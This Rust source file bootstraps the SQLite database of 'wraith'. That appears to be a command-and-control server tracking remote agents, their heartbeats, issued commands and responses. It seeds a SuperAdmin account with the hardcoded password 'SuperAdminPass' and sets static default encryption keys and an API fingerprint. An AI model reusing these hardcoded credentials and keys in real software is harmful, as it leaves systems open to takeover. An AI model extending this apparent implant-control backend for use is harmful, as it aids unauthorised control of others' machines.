// crates/wraith-store-sqlite/src/bootstrap.rs
// ============================================================================
// Module: Schema Bootstrap
// Description: Idempotent schema creation and default-data seeding.
// Purpose: Take a blank database file to a usable state exactly once.
// Dependencies: wraith-core, rusqlite, rand (via store helpers), tracing
// ============================================================================

//! ## Overview
//! Bootstrap is a two-state machine: a database is initialized exactly when
//! the sentinel marker table exists in the catalog. The uninitialized
//! transition executes, in order, every table-creation statement, then the
//! default-settings inserts, then the marker creation. A failure anywhere
//! aborts the remaining sequence and reports [`StoreError::Bootstrap`]
//! without undoing earlier statements; a partially bootstrapped file needs
//! operator inspection, not silent cleanup. Independently of initialization,
//! an empty users table is seeded with one SuperAdmin account so the system
//! is always operator-accessible.

// ============================================================================
// SECTION: Imports
// ============================================================================

use rusqlite::params;
use tracing::debug;
use tracing::warn;
use wraith_core::NewUser;
use wraith_core::PrivilegeLevel;
use wraith_core::StoreError;
use wraith_core::UserName;
use wraith_core::settings;

use crate::store::WraithStore;
use crate::store::random_hex;

// ============================================================================
// SECTION: Constants
// ============================================================================

/// Sentinel table whose presence marks a bootstrapped database.
const MARKER_TABLE: &str = "bootstrap_marker";

/// Default operator seeded into an empty users table.
const DEFAULT_ADMIN_NAME: &str = "SuperAdmin";
/// Default operator password; deployments are expected to change it.
const DEFAULT_ADMIN_PASSWORD: &str = "SuperAdminPass";

/// Byte length of the generated first-layer management key (hex doubles it).
const MANAGEMENT_KEY_BYTES: usize = 25;

/// Table-creation statements, executed in order before seeding.
const CREATE_TABLE_STATEMENTS: [&str; 7] = [
    "CREATE TABLE IF NOT EXISTS settings (
        key TEXT NOT NULL UNIQUE PRIMARY KEY,
        value TEXT
    );",
    "CREATE TABLE IF NOT EXISTS event_history (
        event_id TEXT NOT NULL UNIQUE PRIMARY KEY,
        event_type TEXT,
        event_time INTEGER,
        event_properties TEXT
    );",
    "CREATE TABLE IF NOT EXISTS wraiths (
        assigned_id TEXT NOT NULL UNIQUE PRIMARY KEY,
        host_properties TEXT,
        wraith_properties TEXT,
        last_heartbeat_at INTEGER,
        issued_commands TEXT
    );",
    "CREATE TABLE IF NOT EXISTS commands (
        command_id TEXT NOT NULL UNIQUE PRIMARY KEY,
        command_name TEXT,
        command_params TEXT,
        command_targets TEXT,
        command_responses TEXT,
        time_issued INTEGER
    );",
    "CREATE TABLE IF NOT EXISTS users (
        user_name TEXT NOT NULL UNIQUE PRIMARY KEY,
        password_hash TEXT,
        privilege INTEGER,
        failed_logins INTEGER,
        failed_logins_timeout_start INTEGER
    );",
    "CREATE TABLE IF NOT EXISTS sessions (
        session_id TEXT NOT NULL UNIQUE PRIMARY KEY,
        user_name TEXT,
        session_token TEXT,
        last_heartbeat_at INTEGER
    );",
    "CREATE TABLE IF NOT EXISTS stats (
        key TEXT NOT NULL UNIQUE PRIMARY KEY,
        value TEXT
    );",
];

// ============================================================================
// SECTION: Bootstrap
// ============================================================================

/// Initializes the schema when the marker is absent, then guarantees an
/// operator account exists.
pub(crate) fn ensure_initialized(store: &WraithStore) -> Result<(), StoreError> {
    if is_initialized(store)? {
        debug!("database already bootstrapped");
    } else {
        initialize(store)?;
    }
    seed_default_admin(store)
}

/// Checks the catalog for the sentinel marker table.
fn is_initialized(store: &WraithStore) -> Result<bool, StoreError> {
    let found: Option<String> = store.query_value(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name = ?1 LIMIT 1",
        params![MARKER_TABLE],
    )?;
    Ok(found.is_some())
}

/// Runs the full init sequence: tables, default settings, marker.
fn initialize(store: &WraithStore) -> Result<(), StoreError> {
    for sql in CREATE_TABLE_STATEMENTS {
        store.execute(sql, []).map_err(as_bootstrap_error)?;
    }
    for (key, value) in default_settings() {
        store
            .execute("INSERT INTO settings (key, value) VALUES (?1, ?2)", params![key, value])
            .map_err(as_bootstrap_error)?;
    }
    store
        .execute(
            &format!("CREATE TABLE IF NOT EXISTS {MARKER_TABLE} ({MARKER_TABLE} INTEGER);"),
            [],
        )
        .map_err(as_bootstrap_error)?;
    debug!("database schema initialized");
    Ok(())
}

/// Seeds one SuperAdmin account when no user rows exist.
fn seed_default_admin(store: &WraithStore) -> Result<(), StoreError> {
    let user_count: Option<i64> =
        store.query_value("SELECT COUNT(1) FROM users", params![])?;
    if user_count.unwrap_or(0) > 0 {
        return Ok(());
    }
    store.users().add(&NewUser {
        user_name: UserName::new(DEFAULT_ADMIN_NAME),
        password: DEFAULT_ADMIN_PASSWORD.to_string(),
        privilege: PrivilegeLevel::SuperAdmin,
    })?;
    warn!(user = DEFAULT_ADMIN_NAME, "seeded default operator account with default password");
    Ok(())
}

/// Default settings rows, in seed order.
fn default_settings() -> [(&'static str, String); 12] {
    [
        (settings::WRAITH_MARK_OFFLINE_DELAY, "16".to_string()),
        (settings::WRAITH_INITIAL_CRYPT_KEY, "QWERTYUIOPASDFGHJKLZXCVBNM".to_string()),
        (settings::WRAITH_SWITCH_CRYPT_KEY, "QWERTYUIOPASDFGHJKLZXCVBNM".to_string()),
        (settings::API_FINGERPRINT, "ABCDEFGHIJKLMNOP".to_string()),
        (settings::WRAITH_DEFAULT_COMMANDS, "[]".to_string()),
        (settings::API_PREFIX, "W_".to_string()),
        (settings::REQUEST_IP_BLACKLIST, "[]".to_string()),
        (settings::MANAGEMENT_SESSION_EXPIRY_DELAY, "12".to_string()),
        (
            settings::MANAGEMENT_FIRST_LAYER_ENCRYPTION_KEY,
            random_hex(MANAGEMENT_KEY_BYTES),
        ),
        (settings::MANAGEMENT_IP_WHITELIST, "[]".to_string()),
        (settings::MANAGEMENT_BRUTE_FORCE_MAX_ATTEMPTS, "3".to_string()),
        (settings::MANAGEMENT_BRUTE_FORCE_TIMEOUT_SECONDS, "300".to_string()),
    ]
}

/// Rewraps an init-sequence failure as a bootstrap error, keeping the engine
/// message intact.
fn as_bootstrap_error(error: StoreError) -> StoreError {
    match error {
        StoreError::Db(message) => StoreError::Bootstrap(message),
        other => other,
    }
}
